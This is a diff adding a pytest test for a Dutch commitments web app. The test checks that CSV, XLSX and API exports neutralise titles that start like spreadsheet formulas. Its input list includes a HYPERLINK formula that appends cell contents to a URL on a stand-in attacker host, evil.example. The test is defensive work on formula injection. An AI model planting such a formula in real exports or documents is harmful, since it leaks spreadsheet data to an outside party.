@@ -84,3 +84,44 @@ def test_after_login_a_path_on_this_site_is_kept(client, create_user):
         data={"email": user.email, "password": PASSWORD},
     )
     assert response.headers["Location"] == "/beheer/toezeggingen/nieuw?x=1"
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Klik hier")',
+    "+31 6 1234 5678",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",  # stored trimmed, so this one is "=1+1"
+]
+
+
+@pytest.mark.parametrize("title", FORMULAS)
+def test_spreadsheets_never_run_a_title_as_a_formula(client, create_commitment, title):
+    import csv
+    import io
+    import zipfile
+
+    import openpyxl
+
+    from app.extensions import db
+
+    title = create_commitment(title=title).title  # as stored: surrounding blanks trimmed
+    db.session.commit()
+
+    for separator in (",", ";"):
+        raw = client.get(f"/toezeggingen.csv?scheiding={separator}").get_data()
+        rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=separator))
+        assert [row["titel"] for row in rows] == ["'" + title]
+
+    workbook_bytes = client.get("/toezeggingen.xlsx").get_data()
+    with zipfile.ZipFile(io.BytesIO(workbook_bytes)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml
+    sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes)).worksheets[0]
+    headings = [cell.value for cell in sheet[1]]
+    cell = sheet.cell(row=2, column=headings.index("titel") + 1)
+    assert cell.value == title
+    assert cell.data_type == "s"
+
+    api_titles = [item["title"] for item in client.get("/api/v1/commitments").json["items"]]
+    assert api_titles == [title]
